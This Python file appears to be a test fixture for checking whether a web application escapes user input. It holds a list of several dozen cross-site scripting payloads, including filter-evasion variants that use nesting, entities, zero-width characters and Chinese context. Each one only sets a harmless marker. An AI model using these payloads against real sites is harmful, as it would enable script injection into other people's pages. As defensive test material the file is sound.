"""What somebody types who wants a page to run it. Each carries MARK, so that pages that show one can be told, and sets `window.__x` or speaks up if it runs."""

MARK = "__x"
RUN = "window.__x=1"

PAYLOADS = (
    # scripts, plain, nested, broken, with a namespace
    f"<script>{RUN}</script>", "<script src=data:,__x=1></script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</script><script>{RUN}//", f"<SCRIPT/XSS>{RUN}</SCRIPT>", f"<!--><script>{RUN}</script>-->", f"]]><script>{RUN}</script>",
    # handlers of elements that need no click
    "<img src=x onerror=__x=1>", f"<img/src=x/onerror={RUN}>", "<svg onload=__x=1>", f"<svg><script>{RUN}</script></svg>", f"<body onload={RUN}>", f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<marquee onstart={RUN}>__x</marquee>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>", f"<table background=x onerror={RUN}><td>__x",
    f"<style onload={RUN}></style>",
    # frames, links, objects, redirects
    "<iframe src=javascript:parent.__x=1>", "<iframe srcdoc='<script>parent.__x=1</script>'></iframe>", "<a href=javascript:__x=1>点这里</a>", "javascript:window.__x=1//",
    "<a href=' jav&#x09;ascript:__x=1'>工资条</a>", f"<object data='javascript:{RUN}'></object>", "<embed src=javascript:__x=1>", "<base href=//x.invalid/__x>",
    f"<form action='javascript:{RUN}'><button>__x</button></form>", "<meta http-equiv=refresh content='0;url=javascript:__x=1'>",
    # out of an attribute, with each kind of quote and none
    f"\" autofocus onfocus=\"{RUN}", f"' autofocus onfocus='{RUN}", f"\"><img src=x onerror={RUN}>", f"'><svg onload={RUN}>", f"x onmouseover={RUN} y=", f"`onerror={RUN}`",
    # templates, formulas of scripts, styles, Markdown
    "{{ __x }}{{ 7*7 }}", "{% set __x = 1 %}", "${window.__x=1}", "{{constructor.constructor('__x=1')()}}", "#{__x=1} <%= __x %>",
    "<style>*{background:url(//x.invalid/__x)}</style>", "x\" style=\"background:url(javascript:__x=1)", "[__x](javascript:__x=1)", "![__x](x\" onerror=\"__x=1)",
    # signs that become others on the way in, entities, control signs, direction, zero width
    f"＜script＞{RUN}＜/script＞", f"﹤img src=x onerror={RUN}﹥", "&lt;script&gt;__x=1&lt;/script&gt;", "&#60;img src=x onerror=__x=1&#62;", "\\u003cscript\\u003e__x=1\\u003c/script\\u003e",
    "%3Cscript%3E__x=1%3C/script%3E", f"<scr\u200bipt>{RUN}</scr\u200bipt>", f"<img src=x on\u00aderror={RUN}>", "\u202e>tpircs/<__x>tpircs<",
    # in the middle of Chinese
    f"老板说“没钱”<img src=x onerror={RUN}>，我等了三个月", f"工资条》<script>{RUN}</script>《在组长手里",
)
SHORT = 4  # of the payloads that fit into a short field, how many the ordinary run tries


def fitting(longest: int) -> list[str]:
    """Those that a field of this length takes."""
    return [p for p in PAYLOADS if len(p) <= longest]


def together(longest: int, first: int = 0) -> str:
    """As many as go into a long field, one a line, beginning with one."""
    found = ""
    for payload in PAYLOADS[first:] + PAYLOADS[:first]:
        if len(found) + len(payload) < longest:
            found += payload + "\n"
    return found.rstrip("\n")
